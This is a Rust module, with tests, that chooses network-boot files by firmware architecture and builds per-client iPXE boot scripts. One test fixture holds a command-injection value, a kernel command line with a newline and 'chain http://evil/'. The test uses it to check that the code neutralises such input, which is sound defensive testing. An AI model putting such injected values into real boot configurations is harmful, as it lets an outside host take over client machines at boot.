//! Boot policy, in one place: which file a client's firmware gets. DHCP and HTTP ask it
//! and know nothing of each other.
//!
//! Client architectures are the IANA "Processor Architecture Types" of RFC 4578 section
//! 2.1 (DHCP option 93). The iPXE script follows iPXE's scripting language
//! (<https://ipxe.org/scripting>, commands `kernel`, `initrd --name`, `boot`, `shell`).

use std::fmt::Write as _;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::{Path, PathBuf};

use crate::config::{Config, Mac};

/// What the DHCP server learned about a booting client.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ClientFirmware {
    /// Option 93, the first architecture listed. `None` when absent.
    pub arch: Option<u16>,
    /// Option 77 user class "iPXE", or option 175 present: the client already runs iPXE.
    pub ipxe: bool,
}

/// The boot answer for one client.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum BootFile {
    /// A file fetched over TFTP from next-server (option 66/67, siaddr/file).
    Tftp(String),
    /// A URL iPXE fetches itself.
    Url(String),
    /// An architecture we have nothing for: no boot information, and a log line.
    Unsupported(u16),
}

/// x86 BIOS (RFC 4578).
pub const ARCH_BIOS: u16 = 0;
/// EFI x86-64 (RFC 4578, and the IANA registry: 7 = EFI BC, 9 = EFI x86-64).
pub const ARCH_EFI_BC: u16 = 7;
pub const ARCH_EFI_X64: u16 = 9;

/// Picks the boot file: iPXE gets the HTTP script, BIOS the BIOS loader, UEFI x64 the EFI one.
pub fn boot_file(cfg: &Config, server: Ipv4Addr, fw: &ClientFirmware) -> BootFile {
    if fw.ipxe {
        return BootFile::Url(script_url(cfg, server));
    }
    match fw.arch.unwrap_or(ARCH_BIOS) {
        ARCH_BIOS => BootFile::Tftp(cfg.boot.bios.clone()),
        ARCH_EFI_BC | ARCH_EFI_X64 => BootFile::Tftp(cfg.boot.uefi.clone()),
        other => BootFile::Unsupported(other),
    }
}

/// The URL of the per-client iPXE script. iPXE substitutes `${net0/mac}` itself.
pub fn script_url(cfg: &Config, server: Ipv4Addr) -> String {
    let port = cfg.http.port;
    if port == 80 {
        format!("http://{server}/boot.ipxe?mac=${{net0/mac}}")
    } else {
        format!("http://{server}:{port}/boot.ipxe?mac=${{net0/mac}}")
    }
}

/// What iPXE boots for one client: the default `[boot]` files, or a `[[dhcp.host]]`'s
/// overrides (each key overrides on its own).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NetBoot {
    pub kernel: Option<PathBuf>,
    pub initrd: Option<PathBuf>,
    pub cmdline: String,
    /// True when the host entry overrides the kernel or initrd, so the URLs must carry the
    /// MAC (`/boot/<mac>/kernel`) to reach the right file.
    pub per_host_files: bool,
}

/// Which of the two files of a [`NetBoot`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BootPart {
    Kernel,
    Initrd,
}

impl BootPart {
    pub fn name(self) -> &'static str {
        match self {
            BootPart::Kernel => "kernel",
            BootPart::Initrd => "initrd",
        }
    }
}

/// The kernel, initrd and command line for `mac` (`None`: a client that did not say).
pub fn netboot(cfg: &Config, mac: Option<Mac>) -> NetBoot {
    let host = mac.and_then(|m| cfg.host(&m));
    let kernel = host.and_then(|h| h.kernel.clone());
    let initrd = host.and_then(|h| h.initrd.clone());
    NetBoot {
        per_host_files: kernel.is_some() || initrd.is_some(),
        kernel: kernel.or_else(|| cfg.boot.kernel.clone()),
        initrd: initrd.or_else(|| cfg.boot.initrd.clone()),
        cmdline: host
            .and_then(|h| h.cmdline.clone())
            .unwrap_or_else(|| cfg.boot.cmdline.clone()),
    }
}

/// The file behind `/boot/<part>` (or `/boot/<mac>/<part>`), if one is configured.
pub fn boot_path(cfg: &Config, mac: Option<Mac>, part: BootPart) -> Option<PathBuf> {
    let nb = netboot(cfg, mac);
    match part {
        BootPart::Kernel => nb.kernel,
        BootPart::Initrd => nb.initrd,
    }
}

/// Why a script cannot boot the client: the script then says so on screen and drops to
/// the iPXE shell; the caller logs it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ScriptProblem {
    /// `[boot] kernel` (and the host's) is not set.
    NoKernel,
    /// The configured file is not a readable regular file.
    Missing { part: BootPart, path: PathBuf },
}

/// An iPXE script and, when it is a fallback script, why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Script {
    pub text: String,
    pub problem: Option<ScriptProblem>,
}

/// The name the initrd gets inside iPXE, and that `initrd=` on the command line refers to:
/// an EFI-stub kernel loads its initrd by that name from iPXE's virtual file system.
pub const INITRD_NAME: &str = "initrd.img";

/// The iPXE script for `mac`, with file URLs on `server` (the address and HTTP port the
/// client reached us on). `usable` says whether a configured file can be served; it is a
/// parameter so the policy stays free of I/O.
pub fn ipxe_script(
    cfg: &Config,
    server: SocketAddrV4,
    mac: Option<Mac>,
    usable: &dyn Fn(&Path) -> bool,
) -> Script {
    let nb = netboot(cfg, mac);
    let who = mac.map_or("a client that sent no MAC".to_string(), |m| m.to_string());
    let problem = match (&nb.kernel, &nb.initrd) {
        (None, _) => Some(ScriptProblem::NoKernel),
        (Some(k), _) if !usable(k) => Some(ScriptProblem::Missing {
            part: BootPart::Kernel,
            path: k.clone(),
        }),
        (_, Some(i)) if !usable(i) => Some(ScriptProblem::Missing {
            part: BootPart::Initrd,
            path: i.clone(),
        }),
        _ => None,
    };
    let mut t = String::from("#!ipxe\n");
    let _ = writeln!(t, "# vdd boot script for {who}");
    if let Some(p) = &problem {
        // The admin's path is not a secret from the admin standing at the seat, and it is
        // what they need to fix; the clients on a lab LAN are the admin's own machines.
        let why = match p {
            ScriptProblem::NoKernel => "no kernel configured ([boot] kernel)".to_string(),
            ScriptProblem::Missing { part, path } => {
                format!("{} file {} is missing", part.name(), path.display())
            }
        };
        let _ = writeln!(t, "echo vdd: cannot boot: {}", one_line(&why));
        t.push_str("echo vdd: fix config.toml on the server; dropping to the iPXE shell\n");
        // `shell` returns when the user types `exit`; reboot then retries the whole boot.
        t.push_str("shell\nreboot\n");
        return Script { text: t, problem };
    }
    let base = match (nb.per_host_files, mac) {
        (true, Some(m)) => format!("http://{server}/boot/{m}"),
        _ => format!("http://{server}/boot"),
    };
    let mut cmdline = String::new();
    if nb.initrd.is_some() {
        let _ = write!(cmdline, "initrd={INITRD_NAME} ");
    }
    let _ = write!(cmdline, "vdd.server={server}");
    if let (Some(root), true) = (&cfg.boot.root, cfg.nbd.enabled) {
        // Where boot-menu finds its root (export names are checked to be
        // command-line-safe, so the parameter cannot split).
        let _ = write!(
            cmdline,
            " vdd.nbd={}:{} vdd.export={root}",
            server.ip(),
            cfg.nbd.port
        );
    }
    let extra = one_line(&nb.cmdline);
    if !extra.trim().is_empty() {
        let _ = write!(cmdline, " {}", extra.trim());
    }
    let _ = writeln!(t, "kernel {base}/kernel {cmdline}");
    if nb.initrd.is_some() {
        let _ = writeln!(t, "initrd --name {INITRD_NAME} {base}/initrd");
    }
    t.push_str("boot\n");
    Script {
        text: t,
        problem: None,
    }
}

/// A config value on one script line: a newline in it would start a new iPXE command.
fn one_line(s: &str) -> String {
    s.replace(['\n', '\r'], " ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::Path;

    fn cfg() -> Config {
        Config::parse(
            "[server]\ninterface=\"vdd0\"\naddress=\"10.77.0.1/24\"\n[dhcp]\npool=\"10.77.0.100-10.77.0.110\"\n",
            Path::new("/tmp/c.toml"),
        )
        .unwrap()
    }

    #[test]
    fn picks_by_arch() {
        let c = cfg();
        let s = Ipv4Addr::new(10, 77, 0, 1);
        let fw = |arch, ipxe| ClientFirmware { arch, ipxe };
        assert_eq!(
            boot_file(&c, s, &fw(None, false)),
            BootFile::Tftp("undionly.kpxe".into())
        );
        assert_eq!(
            boot_file(&c, s, &fw(Some(0), false)),
            BootFile::Tftp("undionly.kpxe".into())
        );
        assert_eq!(
            boot_file(&c, s, &fw(Some(7), false)),
            BootFile::Tftp("ipxe.efi".into())
        );
        assert_eq!(
            boot_file(&c, s, &fw(Some(9), false)),
            BootFile::Tftp("ipxe.efi".into())
        );
        assert_eq!(
            boot_file(&c, s, &fw(Some(6), false)),
            BootFile::Unsupported(6)
        );
        assert_eq!(
            boot_file(&c, s, &fw(Some(0), true)),
            BootFile::Url("http://10.77.0.1/boot.ipxe?mac=${net0/mac}".into())
        );
    }

    const HOSTS: &str = "[server]\ninterface=\"vdd0\"\naddress=\"10.77.0.1/24\"\n[dhcp]\npool=\"10.77.0.100-10.77.0.110\"\n\
        [[dhcp.host]]\nmac=\"52:54:00:00:00:01\"\nkernel=\"/srv/other/vmlinuz\"\ncmdline=\"quiet\"\n\
        [[dhcp.host]]\nmac=\"52:54:00:00:00:02\"\ncmdline=\"console=ttyS0\\nchain http://evil/\"\n\
        [[dhcp.host]]\nmac=\"52:54:00:00:00:03\"\naddress=\"10.77.0.53\"\n\
        [boot]\nkernel=\"/srv/vmlinuz\"\ninitrd=\"/srv/initrd.img\"\ncmdline=\"console=tty1\"\n";

    fn hosts() -> Config {
        Config::parse(HOSTS, Path::new("/tmp/c.toml")).unwrap()
    }

    const SERVER: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(10, 77, 0, 1), 8080);

    fn mac(s: &str) -> Option<Mac> {
        Some(s.parse().unwrap())
    }

    #[test]
    fn default_script() {
        let s = ipxe_script(&hosts(), SERVER, None, &|_| true);
        assert_eq!(s.problem, None);
        assert_eq!(
            s.text,
            "#!ipxe\n# vdd boot script for a client that sent no MAC\n\
             kernel http://10.77.0.1:8080/boot/kernel initrd=initrd.img vdd.server=10.77.0.1:8080 console=tty1\n\
             initrd --name initrd.img http://10.77.0.1:8080/boot/initrd\n\
             boot\n"
        );
        // A MAC with a reservation but no boot overrides gets the same default URLs.
        let s3 = ipxe_script(&hosts(), SERVER, mac("52:54:00:00:00:03"), &|_| true);
        assert!(s3
            .text
            .contains("kernel http://10.77.0.1:8080/boot/kernel "));
        assert!(s3.text.contains("# vdd boot script for 52:54:00:00:00:03"));
    }

    #[test]
    fn script_names_the_nbd_root() {
        let text = HOSTS.replace("[boot]\n", "[boot]\nroot=\"thin-client\"\n")
            + "[nbd]\nport=10810\n[[nbd.export]]\nname=\"thin-client\"\npath=\"/srv/tc.squashfs\"\n";
        let c = Config::parse(&text, Path::new("/tmp/c.toml")).unwrap();
        let s = ipxe_script(&c, SERVER, None, &|_| true);
        assert!(
            s.text.contains("vdd.server=10.77.0.1:8080 vdd.nbd=10.77.0.1:10810 vdd.export=thin-client console=tty1\n"),
            "{}",
            s.text
        );
    }

    #[test]
    fn per_host_overrides() {
        let c = hosts();
        let s = ipxe_script(&c, SERVER, mac("52:54:00:00:00:01"), &|_| true);
        assert_eq!(
            s.text,
            "#!ipxe\n# vdd boot script for 52:54:00:00:00:01\n\
             kernel http://10.77.0.1:8080/boot/52:54:00:00:00:01/kernel initrd=initrd.img vdd.server=10.77.0.1:8080 quiet\n\
             initrd --name initrd.img http://10.77.0.1:8080/boot/52:54:00:00:00:01/initrd\n\
             boot\n"
        );
        let m = mac("52:54:00:00:00:01");
        assert_eq!(
            boot_path(&c, m, BootPart::Kernel).unwrap(),
            Path::new("/srv/other/vmlinuz")
        );
        // The initrd is not overridden: the default one is served under the MAC's URL.
        assert_eq!(
            boot_path(&c, m, BootPart::Initrd).unwrap(),
            Path::new("/srv/initrd.img")
        );
        assert_eq!(
            boot_path(&c, None, BootPart::Kernel).unwrap(),
            Path::new("/srv/vmlinuz")
        );
    }

    #[test]
    fn cmdline_cannot_inject_commands() {
        let s = ipxe_script(&hosts(), SERVER, mac("52:54:00:00:00:02"), &|_| true);
        assert_eq!(s.text.lines().count(), 5, "{}", s.text);
        assert!(s
            .text
            .contains("vdd.server=10.77.0.1:8080 console=ttyS0 chain http://evil/\n"));
        assert!(!s.text.lines().any(|l| l.starts_with("chain")));
    }

    #[test]
    fn missing_files_give_a_fallback_script() {
        let c = hosts();
        let s = ipxe_script(&c, SERVER, None, &|p| p != Path::new("/srv/vmlinuz"));
        assert_eq!(
            s.problem,
            Some(ScriptProblem::Missing {
                part: BootPart::Kernel,
                path: "/srv/vmlinuz".into()
            })
        );
        assert!(s.text.starts_with("#!ipxe\n"));
        assert!(s
            .text
            .contains("echo vdd: cannot boot: kernel file /srv/vmlinuz is missing\n"));
        assert!(s.text.ends_with("shell\nreboot\n"));
        assert!(!s.text.contains("\nboot\n"));

        let s = ipxe_script(&c, SERVER, None, &|p| p != Path::new("/srv/initrd.img"));
        assert!(matches!(
            s.problem,
            Some(ScriptProblem::Missing {
                part: BootPart::Initrd,
                ..
            })
        ));

        let none = cfg();
        let s = ipxe_script(&none, SERVER, None, &|_| true);
        assert_eq!(s.problem, Some(ScriptProblem::NoKernel));
        assert!(s.text.contains("no kernel configured"));
    }

    #[test]
    fn no_initrd_means_no_initrd_line() {
        let c = Config::parse(
            "[server]\ninterface=\"vdd0\"\n[dhcp]\nmode=\"off\"\n[boot]\nkernel=\"/k\"\n",
            Path::new("/tmp/c.toml"),
        )
        .unwrap();
        let s = ipxe_script(&c, SERVER, None, &|_| true);
        assert_eq!(
            s.text,
            "#!ipxe\n# vdd boot script for a client that sent no MAC\n\
             kernel http://10.77.0.1:8080/boot/kernel vdd.server=10.77.0.1:8080\nboot\n"
        );
    }
}
